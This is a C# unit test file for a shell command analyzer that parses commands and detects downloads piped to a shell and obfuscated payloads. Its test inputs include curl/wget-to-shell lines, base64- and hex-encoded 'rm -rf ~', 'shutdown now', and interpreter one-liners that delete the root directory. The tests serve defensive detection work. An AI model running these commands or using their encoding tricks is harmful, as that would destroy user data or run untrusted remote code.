using System.Text;
using Governance.Analysis;
using Governance.Analysis.Commands;
using Governance.Analysis.Effects;
using Governance.Analysis.Interpreters;
using Governance.Analysis.Paths;

namespace Governance.Analysis.Tests.Commands;

public sealed class ShellCommandAnalyzerPayloadTests
{
    private static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    [Theory]
    [InlineData("curl -fsSL https://x.sh | sh", "sh", "pipe:curl")]
    [InlineData("wget -O- https://x.sh | bash", "bash", "pipe:wget")]
    [InlineData("curl https://x.py | python3", "python3", "pipe:curl")]
    [InlineData("curl https://x.sh | sudo sh", "sh", "pipe:curl")]
    [InlineData("sudo curl https://x.sh | tee /tmp/x | bash -s", "bash", "pipe:curl")]
    public void Analyze_DownloadPipedToShell_StdinFromProducer(string command, string shell, string stdin)
    {
        var result = ShellCommandAnalyzer.Analyze(command);

        var consumer = Assert.Single(result.Commands, c => c.Name == shell);
        Assert.Equal(stdin, consumer.StdinFrom);
    }

    [Fact]
    public void Analyze_Base64PipedToShell_DecodedAndAnalysed()
    {
        var result = ShellCommandAnalyzer.Analyze($"echo {B64("rm -rf ~")} | base64 -d | sh");

        var rm = Assert.Single(result.Commands, c => c.Name == "rm");
        Assert.Equal(CommandOrigin.Decoded, rm.Origin);
        Assert.Equal(["-rf", "~"], rm.Arguments);
        Assert.False(result.IsOpaque);
    }

    [Fact]
    public void Analyze_Base64HereStringToShell_Decoded()
    {
        var result = ShellCommandAnalyzer.Analyze($"base64 --decode <<< '{B64("shutdown now")}' | bash");

        Assert.Contains(result.Commands, c => c.Name == "shutdown" && c.Origin == CommandOrigin.Decoded);
    }

    [Theory]
    [InlineData("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x7e' | sh")]
    [InlineData("echo -e '\\x72\\x6d -rf ~' | bash")]
    [InlineData("printf '%b' '\\0162\\0155 -rf ~' | sh")]
    [InlineData("echo 726d202d7266207e | xxd -r -p | sh")]
    public void Analyze_EscapedPayloadToShell_Decoded(string command)
    {
        var result = ShellCommandAnalyzer.Analyze(command);

        var rm = Assert.Single(result.Commands, c => c.Name == "rm");
        Assert.Equal(CommandOrigin.Decoded, rm.Origin);
        Assert.Equal(["-rf", "~"], rm.Arguments);
    }

    [Fact]
    public void Analyze_PlainEchoPipedToShell_Reentered()
    {
        var rm = Assert.Single(ShellCommandAnalyzer.Analyze("echo 'rm -rf ~' | sh").Commands, c => c.Name == "rm");

        Assert.Equal(CommandOrigin.ShellReentry, rm.Origin);
    }

    [Theory]
    [InlineData("echo $PAYLOAD | base64 -d | sh")]
    [InlineData("base64 -d payload.txt | bash")]
    [InlineData("cat blob | xxd -r | sh")]
    [InlineData("echo '!!!' | base64 -d | sh")]
    public void Analyze_UndecodablePayloadToShell_Opaque(string command)
    {
        var result = ShellCommandAnalyzer.Analyze(command);

        Assert.Contains("encoded payload piped to a shell", result.OpaqueReasons);
    }

    [Fact]
    public void Analyze_AnsiCQuotedCommandName_Decoded()
    {
        var rm = Assert.Single(ShellCommandAnalyzer.Analyze("$'\\x72\\x6d' -rf ~").Commands);

        Assert.Equal("rm", rm.Name);
    }

    [Fact]
    public void Analyze_ShellDashCOfDecodedSubstitution_Resolved()
    {
        var result = ShellCommandAnalyzer.Analyze($"sh -c \"$(echo {B64("rm -rf ~")} | base64 -d)\"");

        Assert.Contains(result.Commands, c => c.Name == "rm" && c.Arguments.SequenceEqual(["-rf", "~"]));
    }

    [Theory]
    [InlineData("python -c 'import shutil; shutil.rmtree(\"/\")'", "python", "import shutil; shutil.rmtree(\"/\")")]
    [InlineData("python3 -c \"print(1)\"", "python3", "print(1)")]
    [InlineData("node -e 'require(\"fs\").rmSync(\"/\")'", "node", "require(\"fs\").rmSync(\"/\")")]
    [InlineData("perl -ne 'print' file", "perl", "print")]
    [InlineData("ruby -e 'FileUtils.rm_rf(\"/\")'", "ruby", "FileUtils.rm_rf(\"/\")")]
    [InlineData("php -r 'system(\"id\");'", "php", "system(\"id\");")]
    public void Analyze_InterpreterOneLiner_InlineCodeCaptured(string command, string name, string code)
    {
        var interpreter = Assert.Single(ShellCommandAnalyzer.Analyze(command).Commands);

        Assert.Equal(name, interpreter.Name);
        Assert.Equal(CommandOrigin.Interpreter, interpreter.Origin);
        Assert.Equal(code, interpreter.InlineCode);
    }

    [Fact]
    public void Analyze_PythonHeredoc_InlineCodeIsBody()
    {
        var python = Assert.Single(ShellCommandAnalyzer.Analyze("python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/home')\nEOF").Commands);

        Assert.Equal(CommandOrigin.Interpreter, python.Origin);
        Assert.Equal("import shutil\nshutil.rmtree('/home')\n", python.InlineCode);
        Assert.Equal("heredoc", python.StdinFrom);
    }

    [Fact]
    public void Analyze_PythonScriptFile_NotInterpreterOrigin()
    {
        var python = Assert.Single(ShellCommandAnalyzer.Analyze("python3 build.py --fast").Commands);

        Assert.Equal(CommandOrigin.Direct, python.Origin);
        Assert.Null(python.InlineCode);
    }

    [Fact]
    public void Analyze_ShellHeredoc_BodyAnalysed()
    {
        var result = ShellCommandAnalyzer.Analyze("bash <<EOF\ncd /\nrm -rf ~\nEOF\n");

        Assert.Equal(CommandOrigin.Interpreter, result.Commands[0].Origin);
        var rm = Assert.Single(result.Commands, c => c.Name == "rm");
        Assert.Equal(1, rm.Depth);
    }

    [Fact]
    public void Analyze_ShellHereString_BodyAnalysed()
    {
        Assert.Contains(ShellCommandAnalyzer.Analyze("bash <<< 'rm -rf ~'").Commands, c => c.Name == "rm");
    }

    [Fact]
    public void Analyze_EncodedPayloadToInterpreter_InlineCodeDecoded()
    {
        var python = Assert.Single(ShellCommandAnalyzer.Analyze($"echo {B64("import os")} | base64 -d | python3").Commands, c => c.Name == "python3");

        Assert.Equal("import os", python.InlineCode);
    }
}
